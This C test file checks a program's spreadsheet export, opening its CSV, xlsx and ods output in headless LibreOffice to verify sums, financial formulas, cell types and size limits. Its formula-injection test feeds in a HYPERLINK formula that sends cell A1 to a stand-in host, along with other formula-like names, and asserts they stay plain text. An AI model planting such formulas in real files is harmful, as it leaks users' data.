/* What is exported in a real spreadsheet, LibreOffice: the CSV as it opens there by a double click, with the
 * separators that its import begins with, under a French and an English locale; and both kinds of workbooks.
 */
#include "config.h"

#include <gio/gio.h>
#include <libxml/parser.h>
#include <libxml/tree.h>

#include <jalon/analysis/capital.h>
#include <jalon/exchange/csv.h>
#include <jalon/export/export.h>
#include <jalon/xml/read.h>

#include "../../app/export/sheet.h"
#include "../chart/support.h"
#include "../xml/scratch.h"

/* Comma, semicolon and tab; UTF-8; from the first line on. */
#define IMPORT "--infilter=Text - txt - csv (StarCalc):44/59/9,34,76,1"

static const struct {
  const char *lang, *locale;
} languages[] = { { "en", "en_US.UTF-8" }, { "fr", "fr_FR.UTF-8" } };

/* @file: the path of what it is to make a flat spreadsheet of */
static void
run_office (const char *office, const char *folder, const char *locale, const char *file)
{
  g_autoptr (GSubprocessLauncher) launcher =
    g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_STDOUT_SILENCE | G_SUBPROCESS_FLAGS_STDERR_SILENCE);
  g_autofree char *profile = g_strdup_printf ("-env:UserInstallation=file://%s/profile", folder);
  const gboolean is_csv = g_str_has_suffix (file, ".csv");
  const char *const args[] = { office,     profile, "--headless", "--convert-to",         "fods",
                               "--outdir", folder,  file,         is_csv ? IMPORT : NULL, NULL };
  g_autoptr (GSubprocess) process = NULL;
  g_autoptr (GError) error = NULL;

  g_subprocess_launcher_setenv (launcher, "LC_ALL", locale, TRUE);
  g_subprocess_launcher_setenv (launcher, "LANG", locale, TRUE);
  g_subprocess_launcher_setenv (launcher, "HOME", folder, TRUE);
  process = g_subprocess_launcher_spawnv (launcher, args, &error);
  g_assert_no_error (error);
  g_subprocess_wait_check (process, NULL, &error);
  g_assert_no_error (error);
}

/* @formulas: (nullable): a line more of a chart's CSV */
static GBytes *
add_line (GBytes *csv, const char *formulas)
{
  GString *text = g_string_new_len (g_bytes_get_data (csv, NULL), (gssize) g_bytes_get_size (csv));

  if (formulas)
    g_string_append_printf (text, "%s\r\n", formulas);
  return g_string_free_to_bytes (text);
}

/* What LibreOffice makes of a scene's data. @formulas: (nullable): of a CSV, a line more. (nullable): where
 * there is no LibreOffice */
static xmlDoc *
open_scene (
  const JalonScene *scene, const char *format, const char *lang, const char *locale, const char *formulas)
{
  g_autofree char *office = g_find_program_in_path ("soffice"), *folder = NULL, *name = NULL, *path = NULL,
                  *fods = NULL;
  g_autoptr (JalonLocale) written = jalon_locale_new (lang);
  g_autoptr (GFile) file = NULL;
  g_autoptr (GBytes) bytes = NULL, more = NULL;
  g_autoptr (GError) error = NULL;
  xmlDoc *doc;

  if (!office) {
    g_test_skip ("LibreOffice is not installed");
    return NULL;
  }

  folder = g_dir_make_tmp ("jalon-office-XXXXXX", &error);
  g_assert_no_error (error);
  name = g_strconcat ("chart.", format, NULL);
  path = g_build_filename (folder, name, NULL);
  fods = g_build_filename (folder, "chart.fods", NULL);
  file = g_file_new_for_path (path);
  bytes = jalon_export_scene (scene, jalon_export_format_find (format),
                              &(JalonExportLook){ 1, written, FALSE }, &error);
  g_assert_no_error (error);
  more = add_line (bytes, formulas);
  g_assert_true (jalon_export_save (file, more, NULL, &error));
  run_office (office, folder, locale, path);
  doc = xmlReadFile (fods, NULL, XML_PARSE_NONET | XML_PARSE_HUGE);
  scratch_remove (folder);
  g_assert_nonnull (doc);
  return doc;
}

/* The same of a chart's CSV. */
static xmlDoc *
open_csv (Case *c, const char *chart, const char *lang, const char *locale, const char *formulas)
{
  case_build (c, chart);
  return open_scene (c->scene, "csv", lang, locale, formulas);
}

static void
find_rows (xmlNode *node, GPtrArray *rows)
{
  for (xmlNode *child = node->children; child; child = child->next) {
    if (child->type != XML_ELEMENT_NODE)
      continue;
    if (strcmp ((const char *) child->name, "table-row") == 0)
      g_ptr_array_add (rows, child);
    else
      find_rows (child, rows);
  }
}

/* The n-th cell of a row, which may stand for several; NULL behind the last. */
static xmlNode *
cell_at (xmlNode *row, guint n)
{
  for (xmlNode *cell = xmlFirstElementChild (row); cell; cell = xmlNextElementSibling (cell)) {
    xmlChar *repeated = xmlGetProp (cell, BAD_CAST "number-columns-repeated");
    guint covers = repeated ? (guint) g_ascii_strtoull ((const char *) repeated, NULL, 10) : 1;

    xmlFree (repeated);
    if (n < covers)
      return cell;
    n -= covers;
  }
  return NULL;
}

/* The sum of a column's numbers. */
static double
sum_of (xmlDoc *doc, guint column)
{
  g_autoptr (GPtrArray) rows = g_ptr_array_new ();
  double sum = 0;

  find_rows (xmlDocGetRootElement (doc), rows);
  for (guint i = 0; i < rows->len; i++) {
    xmlNode *cell = cell_at (rows->pdata[i], column);
    xmlChar *value = cell ? xmlGetProp (cell, BAD_CAST "value") : NULL;

    if (value)
      sum += g_ascii_strtod ((const char *) value, NULL);
    xmlFree (value);
  }
  return sum;
}

static Case
case_of_file (const char *name)
{
  Case self = { .locale = jalon_locale_new ("en") };
  g_autofree char *path = NULL;
  g_autoptr (GFile) file = NULL;
  g_autoptr (JalonProblems) problems = jalon_problems_new ();
  g_autoptr (GError) error = NULL;

  path = g_test_build_filename (G_TEST_DIST, "..", "resources", "dossiers", name, NULL);
  file = g_file_new_for_path (path);
  self.dossier = jalon_xml_read (file, problems, NULL, NULL, NULL, &error);
  g_assert_no_error (error);
  self.options = (JalonChartOptions){ .width = 1280, .height = 720, .locale = self.locale };
  self.plan = jalon_plan_new (self.dossier, JALON_REF_NONE, NULL);
  return self;
}

/* 250 + 300 + 38 G$, spread over years to the cent. */
static void
test_sum (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (languages); i++) {
    g_auto (Case) c = case_of_file ("openai-multicloud.xml");
    xmlDoc *years = open_csv (&c, "commitments.by-year", languages[i].lang, languages[i].locale, NULL),
           *providers;

    if (!years)
      return;
    providers = open_csv (&c, "commitments.by-provider", languages[i].lang, languages[i].locale, NULL);
    g_assert_cmpfloat_with_epsilon (sum_of (years, 2), 588e9, 0.001);
    g_assert_cmpfloat_with_epsilon (sum_of (providers, 1), 588e9, 0.001);
    g_assert_cmpfloat_with_epsilon (sum_of (providers, 4), 1, 1e-9); /* shares */
    xmlFreeDoc (years);
    xmlFreeDoc (providers);
  }
}

/* Names that a spreadsheet would run are cells of text, and in one piece. */
static void
test_formulas (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (languages); i++) {
    g_auto (Case) c = case_of (
      "commitments.by-provider",
      "<party id='b'/><party id='p1'><name>=HYPERLINK(\"http://x.example/?\"&amp;A1,\"P1\")</name></party>"
      "<party id='p2'><name>+P2; \"quoted\", line</name></party><party id='p3'><name>@SUM(1)</name></party>"
      "<commitment id='c1' buyer='b' provider='p1' amount='4'/>"
      "<commitment id='c2' buyer='b' provider='p2' amount='3'/>"
      "<commitment id='c3' buyer='b' provider='p3' amount='2'/>");
    static const char *const names[] = { "=HYPERLINK(\"http://x.example/?\"&A1,\"P1\")",
                                         "+P2; \"quoted\", line", "@SUM(1)" };
    g_autoptr (GPtrArray) rows = g_ptr_array_new ();
    xmlDoc *doc = open_csv (&c, "commitments.by-provider", languages[i].lang, languages[i].locale, NULL);

    if (!doc)
      return;
    find_rows (xmlDocGetRootElement (doc), rows);
    g_assert_cmpuint (rows->len, >, G_N_ELEMENTS (names));
    for (guint k = 0; k < G_N_ELEMENTS (names); k++) {
      xmlNode *cell = cell_at (rows->pdata[k + 1], 0);
      xmlChar *text = xmlNodeGetContent (cell);
      g_autofree char *stripped = g_strstrip (g_strdup ((const char *) text));

      g_assert_false (xmlHasProp (cell, BAD_CAST "formula"));
      g_assert_cmpstr (jalon_csv_unmark (stripped), ==, names[k]);
      xmlFree (text);
    }
    g_assert_cmpfloat_with_epsilon (sum_of (doc, 1), 9, 1e-9);
    xmlFreeDoc (doc);
  }
}

/* Returns: the number in a cell: the first row is the heading, 0 */
static double
number_at (xmlDoc *doc, guint row, guint column)
{
  g_autoptr (GPtrArray) rows = g_ptr_array_new ();
  xmlNode *cell;
  xmlChar *value;
  double number;

  find_rows (xmlDocGetRootElement (doc), rows);
  g_assert_cmpuint (row, <, rows->len);
  cell = cell_at (rows->pdata[row], column);
  value = cell ? xmlGetProp (cell, BAD_CAST "value") : NULL;
  g_assert_nonnull (value);
  number = g_ascii_strtod ((const char *) value, NULL);
  xmlFree (value);
  return number;
}

/* A machine of 122,000 for five years at 8 %, which then is worth nothing, is 30,555.69 a year; where half of
 * it is left, 61,000 × 0.08 / (1.08^5 - 1) = 10,397.84 less: 20,157.84. PMT says so of the same cells. The
 * cheaper one comes first. */
static void
test_annuity (void)
{
  g_auto (Case) c = case_of (
    "alternatives.cost",
    "<demand id='d' unit='GPU-h'/><alternative id='own' kind='build' demand='d'><input kind='capital' "
    "min='122000' max='122000'/><input kind='life' min='5' max='5'/><input kind='output' min='8760' "
    "max='8760'/></alternative><alternative id='half' kind='build' demand='d'><input kind='capital' "
    "min='122000' max='122000'/><input kind='life' min='5' max='5'/><input kind='output' min='8760' "
    "max='8760'/><input kind='residual' min='0.5' max='0.5'/></alternative>");
  xmlDoc *doc = open_csv (&c, "alternatives.cost", "en", "en_US.UTF-8",
                          "\"=-PMT(L2;N2;M2;-M2*O2)\",\"=-PMT(L3;N3;M3;-M3*O3)\"");

  if (!doc)
    return;
  g_assert_cmpfloat_with_epsilon (number_at (doc, 1, 15), 20157.84, 0.005);
  g_assert_cmpfloat_with_epsilon (number_at (doc, 2, 15), 30555.69, 0.005);
  g_assert_cmpfloat_with_epsilon (number_at (doc, 3, 1), number_at (doc, 2, 15), 1e-5);
  g_assert_cmpfloat_with_epsilon (number_at (doc, 3, 0), number_at (doc, 1, 15), 1e-5);
  xmlFreeDoc (doc);
}

/* 1,000 go out, 1,320 come in a year and a quarter on: XIRR and XNPV of the exported cells say what the plan
 * does. */
static void
test_returns (void)
{
  g_auto (Case) c = case_of (
    "capital.peak",
    "<party id='b'/><party id='i'/><flow id='f' kind='investment' from='b' to='i' amount='1000' "
    "start='2026-Q1'/><flow id='g' kind='prepayment' from='i' to='b' amount='1320' start='2027-Q2'/>");
  const JalonCapital *capital;
  g_autoptr (JalonResult) result = NULL;
  g_autoptr (GError) error = NULL;
  xmlDoc *doc;

  doc = open_csv (&c, "capital.peak", "en", "en_US.UTF-8",
                  "\"=XIRR(F2:F11;B2:B11)\",\"=XNPV(0.08;F2:F11;B2:B11)\"");
  if (!doc)
    return;
  result = jalon_analysis_result (&jalon_capital_analysis, c.plan, NULL, NULL, &error);
  g_assert_no_error (error);
  capital = jalon_result_get (result);
  g_assert_cmpuint (capital->rates->len, ==, 1);
  g_assert_cmpfloat_with_epsilon (number_at (doc, 11, 0), g_array_index (capital->rates, double, 0), 1e-7);
  g_assert_cmpfloat_with_epsilon (number_at (doc, 11, 1), (double) capital->npv / 100, 0.005);
  g_assert_cmpfloat_with_epsilon (sum_of (doc, 8), (double) capital->npv / 100, 0.03);
  xmlFreeDoc (doc);
}

/* Workbooks */

static const char *const formats[] = { "xlsx", "ods" };

static void
add_row (JalonScene *scene, const char *const *cells)
{
  JalonSceneRow *row = g_new0 (JalonSceneRow, 1);

  row->cells = g_strdupv ((char **) cells);
  row->datum = JALON_REF_NONE;
  g_ptr_array_add (scene->rows, row);
}

/* Text that looks like a formula, an escape of the format or a number; two currencies; a day, a quarter. */
static JalonScene *
odd_scene (void)
{
  JalonScene *scene = jalon_scene_new (640, 360, JALON_THEME_LIGHT);
  static const char *const headings[] = { "Name", "Currency", "Amount", "From", "Share", "Number", NULL };
  static const char *const rows[][7] = {
    { "=SUM(A1)", "USD", "300000000000", "2027-01-01", "0.512", "3.25", NULL },
    { "A  B_x0041_", "EUR", "-1250.5", "2027-Q1", "", "-2", NULL },
    { "042", "", "12345678901234567.89", "2028-02-29", "1", "0", NULL },
  };

  scene->title = g_strdup ("The message");
  scene->footnote = g_strdup ("As of then.");
  scene->columns = g_strdupv ((char **) headings);
  scene->kinds = g_strdup ("tcmdpn");
  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    add_row (scene, rows[i]);
  return scene;
}

static void
assert_cell (xmlDoc *doc, guint row, guint column, const char *attribute, const char *expected)
{
  g_autoptr (GPtrArray) rows = g_ptr_array_new ();
  xmlNode *cell;
  xmlChar *value;

  find_rows (xmlDocGetRootElement (doc), rows);
  g_assert_cmpuint (row, <, rows->len);
  cell = cell_at (rows->pdata[row], column);
  g_assert_nonnull (cell);
  value = attribute ? xmlGetProp (cell, BAD_CAST attribute) : xmlNodeGetContent (cell);
  if (value)
    g_strstrip ((char *) value); /* the lines that the XML is laid out in */
  g_assert_cmpstr ((const char *) value, ==, expected);
  xmlFree (value);
}

/* The text of a cell, in which elements stand for spaces that XML would fold. */
static void
assert_text (xmlDoc *doc, guint row, guint column, const char *expected)
{
  assert_cell (doc, row, column, "value-type", "string");
  assert_cell (doc, row, column, "formula", NULL);
  assert_cell (doc, row, column, NULL, expected);
}

static void
check_odd (xmlDoc *doc)
{
  assert_text (doc, 0, 2, "Amount");
  assert_text (doc, 1, 0, "=SUM(A1)");
  assert_text (doc, 2, 0, "A B_x0041_"); /* with an element for the second space */
  assert_text (doc, 3, 0, "042");
  assert_cell (doc, 1, 2, "value-type", "currency");
  assert_cell (doc, 1, 2, "currency", "USD");
  assert_cell (doc, 1, 2, "value", "300000000000");
  assert_cell (doc, 1, 2, NULL, "300,000,000,000.00 USD");
  assert_cell (doc, 2, 2, "currency", "EUR");
  assert_cell (doc, 2, 2, "value", "-1250.5");
  assert_text (doc, 3, 2, "12345678901234567.89"); /* a double has 12345678901234568 of it */
  assert_cell (doc, 1, 3, "date-value", "2027-01-01");
  assert_cell (doc, 3, 3, "date-value", "2028-02-29");
  assert_text (doc, 2, 3, "2027-Q1");
  assert_cell (doc, 1, 4, "value-type", "percentage");
  assert_cell (doc, 1, 4, "value", "0.512");
  assert_cell (doc, 1, 4, NULL, "51.2%");
  assert_cell (doc, 2, 4, "value-type", NULL); /* not known is no zero */
  assert_cell (doc, 1, 5, "value", "3.25");
  assert_cell (doc, 2, 5, "value", "-2");
}

/* Every cell is what it says, whoever opens it. */
static void
test_workbooks (void)
{
  g_autoptr (JalonScene) scene = odd_scene ();

  for (guint i = 0; i < G_N_ELEMENTS (formats); i++) {
    xmlDoc *doc = open_scene (scene, formats[i], "fr", "en_US.UTF-8", NULL);
    xmlChar *text;

    if (!doc)
      return;
    check_odd (doc);
    text = xmlNodeGetContent (xmlDocGetRootElement (doc));
    g_assert_nonnull (strstr ((const char *) text, "The message"));
    g_assert_nonnull (strstr ((const char *) text, "As of then."));
    g_assert_nonnull (strstr ((const char *) text, "1 number has more digits"));
    xmlFree (text);
    xmlFreeDoc (doc);
  }
}

/* What is filtered says so in every row, and the same data give the same bytes. */
static void
test_workbook_filter (void)
{
  g_autoptr (JalonScene) scene = odd_scene ();

  scene->filter = g_strdup ("provider Oracle");
  for (guint i = 0; i < G_N_ELEMENTS (formats); i++) {
    const JalonExportFormat *format = jalon_export_format_find (formats[i]);
    g_autoptr (GBytes) one = NULL, other = NULL;
    xmlDoc *doc = open_scene (scene, formats[i], "en", "fr_FR.UTF-8", NULL);

    if (!doc)
      return;
    assert_text (doc, 0, 6, "Only");
    for (guint row = 1; row <= 3; row++)
      assert_text (doc, row, 6, "provider Oracle");
    xmlFreeDoc (doc);

    one = jalon_export_scene (scene, format, &(JalonExportLook){ 1, NULL, FALSE }, NULL);
    g_usleep (2 * G_USEC_PER_SEC); /* the time in a zip counts two seconds each */
    other = jalon_export_scene (scene, format, &(JalonExportLook){ 1, NULL, FALSE }, NULL);
    g_assert_true (g_bytes_equal (one, other));
  }
}

/* What a workbook has no room for is no workbook, but a sentence that says where. */
static void
test_workbook_bounds (void)
{
  g_autoptr (JalonScene) scene = odd_scene ();
  g_autoptr (GBytes) bytes = NULL, ods = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *text = g_strnfill (32768, 'x');
  const char *const long_row[] = { text, "", "", "", "", "", NULL };
  const JalonExportLook look = { 1, NULL, FALSE };

  add_row (scene, long_row);
  bytes = jalon_export_scene (scene, jalon_export_format_find ("xlsx"), &look, &error);
  g_assert_null (bytes);
  g_assert_error (error, JALON_EXPORT_ERROR, JALON_EXPORT_ERROR_TABLE);
  g_assert_nonnull (strstr (error->message, "Row 5: “Name”"));
  ods = jalon_export_scene (scene, jalon_export_format_find ("ods"), &look, NULL);
  g_assert_nonnull (ods);
}

/* The same of a dossier, which is no chart: what can be done there is something else. */
static void
test_dossier_bounds (void)
{
  g_autofree char *text = g_strnfill (32768, 'x');
  g_autofree char *xml = g_strconcat (
    "<dossier xmlns='urn:jalon:dossier:1' xml:lang='en'><party id='acme'><name>Acme</name><note>", text,
    "</note></party></dossier>", NULL);
  g_autoptr (GBytes) source = g_bytes_new (xml, strlen (xml)), bytes = NULL, ods = NULL;
  g_autoptr (JalonProblems) problems = jalon_problems_new ();
  g_autoptr (JalonDossier) dossier = jalon_xml_read_bytes (source, "d.xml", problems, NULL);
  g_autofree char *left_out = NULL, *none = NULL;
  g_autoptr (GError) error = NULL;

  bytes = jalon_export_dossier (dossier, jalon_export_format_find ("xlsx"), "en", &left_out, &error);
  g_assert_null (bytes);
  g_assert_cmpstr (
    error->message, ==,
    "“Parties”: “Note” of “acme” is longer than a cell of such a workbook may be. Shorten it, or "
    "give a file that ends in .ods.");
  ods = jalon_export_dossier (dossier, jalon_export_format_find ("ods"), "en", &none, NULL);
  g_assert_nonnull (ods);
}

/* A worksheet has 1,048,576 rows, one of them the heading. */
static void
test_row_bounds (void)
{
  static char id[] = "c1", *cells[] = { id, NULL };
  const char *const columns[] = { "Id", NULL };
  g_autoptr (JalonBook) book = jalon_book_new ("Title");
  JalonSheet *sheet = jalon_sheet_new ("Commitments", g_strdupv ((char **) columns), "t");
  g_autoptr (GError) error = NULL;

  g_ptr_array_set_free_func (sheet->rows, NULL);
  g_ptr_array_add (book->sheets, sheet);
  for (guint i = 0; i < 1048575; i++)
    jalon_sheet_add (sheet, cells);
  g_assert_true (jalon_book_check (book, 10, NULL));
  jalon_sheet_add (sheet, cells);
  g_assert_false (jalon_book_check (book, 10, &error));
  g_assert_cmpstr (
    error->message, ==,
    "The table has 1048576 rows, and a worksheet only 1048575. Filter the commitments, or export "
    "as CSV.");
  g_clear_error (&error);
  book->is_dossier = TRUE;
  g_assert_false (jalon_book_check (book, 10, &error));
  g_assert_cmpstr (
    error->message, ==,
    "“Commitments” would have 1048576 rows, and a worksheet has only 1048575. Give a file that "
    "ends in .xml or .jalon: it holds the whole dossier.");
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  jalon_use_language ("en");
  g_test_add_func ("/spreadsheet/sum", test_sum);
  g_test_add_func ("/spreadsheet/formulas", test_formulas);
  g_test_add_func ("/spreadsheet/annuity", test_annuity);
  g_test_add_func ("/spreadsheet/returns", test_returns);
  g_test_add_func ("/spreadsheet/workbooks", test_workbooks);
  g_test_add_func ("/spreadsheet/workbook-filter", test_workbook_filter);
  g_test_add_func ("/spreadsheet/workbook-bounds", test_workbook_bounds);
  g_test_add_func ("/spreadsheet/dossier-bounds", test_dossier_bounds);
  g_test_add_func ("/spreadsheet/row-bounds", test_row_bounds);
  return g_test_run ();
}
